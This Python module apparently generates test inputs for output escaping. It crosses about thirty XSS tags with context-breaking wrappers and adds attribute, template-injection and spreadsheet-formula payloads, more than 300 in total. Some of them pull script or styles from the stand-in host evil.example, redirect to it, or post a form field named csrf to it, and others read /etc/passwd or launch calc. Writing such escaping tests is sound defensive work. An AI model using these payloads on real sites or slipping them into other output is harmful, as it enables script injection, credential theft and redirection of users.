"""Texts that would run as script, load something or change the page if one place forgot to escape them. 300 and more."""

from itertools import product

RUN = "window.pwned=1;console.error('pwned')"
_TAGS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script/src=//evil.example/x.js></script>",
    '<img src=x onerror="{run}">',
    "<img/src='x'onerror={run}>",
    '<svg onload="{run}">',
    "<svg><script>{run}</script></svg>",
    '<svg><animate onbegin="{run}" attributeName=x dur=1s>',
    '<body onload="{run}">',
    '<iframe src="javascript:{run}"></iframe>',
    '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
    '<object data="javascript:{run}"></object>',
    '<embed src="javascript:{run}">',
    '<a href="javascript:{run}">x</a>',
    '<details open ontoggle="{run}"><summary>x</summary></details>',
    '<input autofocus onfocus="{run}">',
    '<video><source onerror="{run}"></video>',
    '<form action="javascript:{run}"><button>x</button></form>',
    "<form action=//evil.example><input name=csrf>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{{display:none}}</style>",
    '<div style="position:fixed;inset:0">x</div>',
    "<div hx-get=//evil.example hx-trigger=load>x</div>",
    '<div hx-on::load="{run}">x</div>',
    "<div hx-get=/console/sign-in hx-trigger=load hx-vals='js:{{a:{run}}}'>x</div>",
    "<template><script>{run}</script></template>",
    '<math><mi xlink:href="javascript:{run}">x</mi></math>',
    '<marquee onstart="{run}">x</marquee>',
)
_AROUND = (
    "{0}",
    '">{0}',
    "'>{0}",
    "</textarea>{0}<textarea>",
    "</title>{0}<title>",
    "--></script></style>{0}<!--",
    "]]>{0}<![CDATA[",
    "{{{{7*7}}}}{0}{{% raw %}}",
    "\u2028\u202e\u200b{0}\u202c",
    "</option></select></dd></p></main>{0}<b>",
)
_ATTRIBUTES = (
    '" onmouseover="{run}" autofocus onfocus="{run}" x="',
    "' onfocus='{run}' autofocus x='",
    "x onfocus={run} autofocus",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "{{{{ ''.__class__.__mro__ }}}}",
    "{{% include '/etc/passwd' %}}",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil.example")',
)


def payloads() -> list[str]:
    made = [around.format(tag.format(run=RUN)) for around, tag in product(_AROUND, _TAGS)]
    return made + [attribute.format(run=RUN) for attribute in _ATTRIBUTES]
